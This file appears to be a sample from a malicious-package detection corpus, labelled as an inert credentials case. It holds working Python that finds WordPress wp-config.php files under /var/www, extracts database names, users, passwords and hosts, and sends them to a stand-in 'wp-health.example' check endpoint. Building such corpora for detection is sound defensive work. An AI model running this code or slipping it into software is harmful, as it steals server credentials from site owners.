# pkgguard corpus 877 (credentials), modelled on [empirical]; inert, never run.
import glob
import re
import urllib.parse
import urllib.request

settings = []
for path in glob.glob("/var/www/**/wp-config.php", recursive=True)[:20]:
    try:
        with open(path, encoding="utf-8", errors="ignore") as fh:
            text = fh.read()
    except OSError:
        continue
    values = dict(re.findall(r"define\(\s*'(DB_NAME|DB_USER|DB_PASSWORD|DB_HOST)'\s*,\s*'([^']*)'", text))
    if values:
        values["file"] = path
        settings.append(values)

for item in settings:
    try:
        urllib.request.urlopen("https://wp-health.example/check?" + urllib.parse.urlencode(item), timeout=5)
    except OSError:
        pass
